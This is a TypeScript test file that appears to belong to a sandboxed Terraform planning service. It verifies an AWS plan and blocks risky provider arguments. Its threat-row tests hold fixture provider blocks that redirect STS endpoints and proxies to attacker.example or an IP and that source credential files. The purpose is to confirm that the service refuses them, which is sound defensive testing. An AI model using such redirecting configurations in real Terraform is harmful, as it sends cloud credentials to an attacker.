// The AWS provider where it matters: a real multi-resource configuration plans jailed with the right
// counts and exactly bare terraform's plan JSON; threat row 21 (provider arguments that redirect requests
// or read credentials): the jail has no network, and a request's credentials never reach the provider.
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { barePlanJson, withoutTimestamps } from './support/bare.js';
import { errorText, expectBlocked, stepNames } from './support/expect.js';
import { AWS_PROVIDER, PLANTED, assertNoPlantedSecret, files, runTerraform, testConfig, testProfile } from './support/runner.js';

const FIXTURE = fileURLToPath(new URL('../fixtures/terraform/aws-basic', import.meta.url));

describe('aws provider', () => {
  it('aws_config_plans_with_counts_and_matches_bare_terraform', async () => {
    // The fixture's provider block holds mock keys and skip_* flags: it needs no request credentials.
    const result = await runTerraform({ input: { kind: 'directory', path: FIXTURE } });
    expect(result.error).toBeNull();
    // One init: the service lock matched terraform's provider set (no fallback init).
    expect(stepNames(result)).toEqual(['init', 'plan', 'show']);
    expect(result.summary).toMatchObject({ add: 7, change: 0, destroy: 0, replace: 0, noop: 0 });
    expect(result.summary?.resources.map((r) => r.address).sort()).toEqual([
      'aws_iam_role.worker', 'aws_s3_bucket.logs', 'aws_s3_bucket_versioning.logs', 'aws_sqs_queue.jobs',
      'aws_subnet.private[0]', 'aws_subnet.private[1]', 'aws_vpc.main',
    ]);
    const bare = await barePlanJson(FIXTURE, testConfig().providerMirror, testProfile().terraformHostPath);
    expect(withoutTimestamps(result.plan_json)).toEqual(withoutTimestamps(bare));
    assertNoPlantedSecret(JSON.stringify(bare));
  });
});

describe('threat row 21: aws provider arguments', () => {
  const risky = `${AWS_PROVIDER}
provider "aws" {
  alias  = "evil"
  region = "us-east-1"
  endpoints {
    sts = "http://attacker.example"
  }
  https_proxy              = "http://attacker.example:3128"
  custom_ca_bundle         = "/workspace/ca.pem"
  shared_credentials_files = ["/workspace/creds"]
  shared_config_files      = ["/workspace/config"]
  profile                  = "process"
  assume_role {
    role_arn = "arn:aws:iam::123456789012:role/x"
  }
}
`;

  it('redirecting_and_credential_sourcing_arguments_are_blocked_with_lines', async () => {
    const result = await runTerraform({ input: files({ 'main.tf': risky }) });
    // Lines counted from the end of the shared provider setup: a blank line, then the evil provider block.
    const at = (offset: number): number => AWS_PROVIDER.split('\n').length + offset;
    expectBlocked(result, 'provider_argument', 'main.tf', at(4));
    const lines = Object.fromEntries(result.findings.filter((f) => f.rule === 'provider_argument').map((f) => [f.message.split('"')[3], f.line]));
    expect(lines).toEqual({
      endpoints: at(4), https_proxy: at(7), custom_ca_bundle: at(8), shared_credentials_files: at(9), shared_config_files: at(10), profile: at(11), assume_role: at(12),
    });
  });

  const redirect = (keys: string): string =>
    `provider "aws" {\n  region      = "us-east-1"\n  max_retries = 1\n${keys}  endpoints {\n    sts = "http://203.0.113.7:8080"\n  }\n}\nresource "aws_sqs_queue" "q" {\n  name = "q"\n}\n`;

  it('endpoint_redirect_with_policy_warning_cannot_reach_attacker_provider_error', async () => {
    // Keys written into the configuration (no request credentials): the provider calls STS at the attacker's
    // endpoint with them signed in; the jail has no network, so nothing leaves.
    const result = await runTerraform(
      { input: files({ 'main.tf': redirect('  access_key  = "AKIAINLINE0000000001"\n  secret_key  = "inline-secret"\n') }) },
      { TF_POLICY_WARN: 'provider_argument' },
    );
    expect(result.error?.type).toBe('provider_error');
    expect(stepNames(result)).toEqual(['init', 'plan']);
    expect(errorText(result)).toMatch(/address family not supported by protocol|dial tcp/);
    expect(result.findings).toContainEqual(expect.objectContaining({ rule: 'provider_argument', severity: 'warn' }));
  });

  it('endpoint_redirect_with_request_credentials_is_refused_before_terraform_validation_error', async () => {
    // The request's credentials never reach the provider: with egress off (the default) a plan that uses
    // the AWS provider and carries credentials is refused before any terraform jail starts.
    const result = await runTerraform({ input: files({ 'main.tf': redirect('') }) }, { TF_POLICY_WARN: 'provider_argument' }, { credentials: true });
    expect(result.error).toMatchObject({ type: 'validation_error', message: 'this service does not give Terraform plans network access; an operator enables it with TF_EGRESS=aws' });
    expect(stepNames(result)).toEqual([]);
    assertNoPlantedSecret(JSON.stringify(result));
    expect(PLANTED.aws_access_key_id.length).toBeGreaterThan(10);
  });
});
